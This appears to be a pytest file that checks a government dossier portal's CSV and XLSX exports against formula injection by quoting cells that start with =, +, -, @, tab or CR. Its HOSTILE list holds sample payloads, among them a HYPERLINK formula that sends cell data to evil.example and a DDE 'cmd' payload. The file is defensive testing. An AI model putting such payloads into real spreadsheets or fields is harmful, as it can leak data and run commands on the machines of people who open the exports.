# ruff: noqa: F811
"""Issue 13 (Medium): formula injection in CSV/XLSX exports.

An applicant named ``=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`` became a live formula in the
dashboard's dossier export. Every text cell starting with = + - @ tab or CR is neutralised with a
leading quote (OWASP "CSV Injection"), and XLSX cells are stored as strings, never formulas; the
inter-agency document books do the same.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from dossiers.models import Dossier
from portal.core.spreadsheet import safe_cell
from tests.dashboards.dash_world import dash, june_morning  # noqa: F401
from tests.dashboards.test_pages import get

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_that_start_a_formula_are_quoted(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Nguyễn Văn A") == "Nguyễn Văn A"
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_dashboard_exports_neutralise_a_hostile_applicant_name(client, dash):
    target = dash.dossiers["b_late"]
    Dossier.objects.filter(pk=target.pk).update(applicant_name=HOSTILE[0])
    response = get(client, dash.provincial, "/thong-ke/ho-so/xuat/csv/", metric="resolved_late")
    rows = [r for r in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))) if r]
    assert rows[-1][-1] == "'" + HOSTILE[0]

    response = get(client, dash.provincial, "/thong-ke/ho-so/xuat/xlsx/", metric="resolved_late")
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [row[-1] for row in ws.iter_rows(min_row=2)]
    hostile = [c for c in cells if isinstance(c.value, str) and HOSTILE[0] in c.value]
    assert hostile and all(c.data_type == "s" and c.value.startswith("'") for c in hostile)
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
